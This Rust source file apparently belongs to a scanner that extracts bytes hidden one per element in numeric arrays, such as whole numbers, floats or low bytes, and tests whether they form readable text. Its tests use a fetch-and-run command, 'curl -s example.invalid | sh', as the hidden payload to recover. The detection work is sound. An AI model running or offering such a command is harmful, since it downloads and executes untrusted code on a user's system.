//! Bytes that are kept as numbers, one in each element: a key or a script as whole numbers, or as floats that are whole.
//!
//! Arrays of texts in NumPy are kept so, four bytes a character, so that an array of this kind is nothing odd by itself;
//! what counts is what the bytes are.

use super::Float;

/// Fewer say nothing.
const LEAST: usize = 16;
/// Elements that are read.
const MOST: usize = 1 << 16;

/// The bytes whose values the elements have, up to the first that has none; nothing unless all of the first
/// [`MOST`] elements have one. Whole numbers are taken to have eight, four or two bytes, least or most significant first.
pub(crate) fn bytes_of(bytes: &[u8], float: Option<Float>) -> Option<Vec<u8>> {
    match float {
        Some(float) => {
            let elements = bytes.chunks_exact(float.width()).take(MOST);
            elements.map(|element| whole(super::value(element, float))).collect::<Option<_>>()
        }
        None => [8, 4, 2].into_iter().find_map(|width| narrowed(bytes, width)),
    }
    .filter(|narrow: &Vec<u8>| narrow.len() >= LEAST && narrow.iter().any(|b| *b != 0))
}

fn whole(value: f64) -> Option<u8> {
    #[expect(
        clippy::cast_possible_truncation,
        clippy::cast_sign_loss,
        reason = "a whole number from 0 to 255"
    )]
    ((0.0..=255.0).contains(&value) && value.fract() == 0.0).then_some(value as u8)
}

fn narrowed(bytes: &[u8], width: usize) -> Option<Vec<u8>> {
    if !bytes.len().is_multiple_of(width) {
        return None;
    }
    let elements = || bytes.chunks_exact(width).take(MOST);
    let little = |element: &[u8]| match element {
        [low, rest @ ..] if rest.iter().all(|b| *b == 0) => Some(*low),
        _ => None,
    };
    let big = |element: &[u8]| match element {
        [rest @ .., low] if rest.iter().all(|b| *b == 0) => Some(*low),
        _ => None,
    };
    elements().map(little).collect::<Option<_>>().or_else(|| elements().map(big).collect())
}

/// The lowest byte of each of the first [`MOST`] elements: what writers exchange without a model noticing.
pub(crate) fn lowest(bytes: &[u8], float: Float) -> Option<Vec<u8>> {
    let low: Vec<u8> =
        bytes.chunks_exact(float.width()).take(MOST).filter_map(|element| element.first().copied()).collect();
    (low.len() >= LEAST).then_some(low)
}

/// The text that such bytes are, words of an array of texts a line each; nothing if they are not written text.
pub(crate) fn text(bytes: &[u8]) -> Option<String> {
    let written = bytes.iter().filter(|b| matches!(b, b' '..=b'~' | b'\n' | b'\r' | b'\t')).count();
    let others = bytes.iter().filter(|b| **b != 0).count() - written.min(bytes.len());
    if written < LEAST || others * 10 > written {
        return None;
    }
    let lines = bytes.split(|b| *b == 0).filter(|line| !line.is_empty());
    Some(lines.map(String::from_utf8_lossy).collect::<Vec<_>>().join("\n"))
}

#[cfg(test)]
mod tests {
    use super::*;

    const WORDS: &[u8] = b"curl -s example.invalid | sh #";

    #[test]
    fn bytes_are_read_from_elements_of_any_kind() {
        let whole = |width: usize, big: bool| -> Vec<u8> {
            let one = |b: &u8| {
                let mut element = vec![0; width];
                element[if big { width - 1 } else { 0 }] = *b;
                element
            };
            WORDS.iter().flat_map(one).collect()
        };
        for (width, big) in [(2, false), (4, false), (8, false), (2, true), (4, true), (8, true)] {
            assert_eq!(bytes_of(&whole(width, big), None).as_deref(), Some(WORDS), "{width} {big}");
        }
        let floats: Vec<u8> = WORDS.iter().flat_map(|b| f32::from(*b).to_le_bytes()).collect();
        assert_eq!(bytes_of(&floats, Some(Float::Single)).as_deref(), Some(WORDS));
        let doubles: Vec<u8> = WORDS.iter().flat_map(|b| f64::from(*b).to_le_bytes()).collect();
        assert_eq!(bytes_of(&doubles, Some(Float::Double)).as_deref(), Some(WORDS));
    }

    #[test]
    fn ordinary_elements_are_no_bytes() {
        let floats: Vec<u8> = (0..100u8).flat_map(|n| (f32::from(n) / 7.0).to_le_bytes()).collect();
        assert_eq!(bytes_of(&floats, Some(Float::Single)), None);
        let ids: Vec<u8> = (0..100i64).flat_map(|n| (n * 300).to_le_bytes()).collect();
        assert_eq!(bytes_of(&ids, None), None);
        assert_eq!(bytes_of(&[0; 800], None), None);
        assert_eq!(text(&(0..200).collect::<Vec<u8>>()), None);
    }

    #[test]
    fn an_array_of_texts_is_a_line_each() {
        let padded = [&b"first text"[..], &[0; 6], b"second text", &[0; 5]].concat();
        assert_eq!(text(&padded).as_deref(), Some("first text\nsecond text"));
    }
}
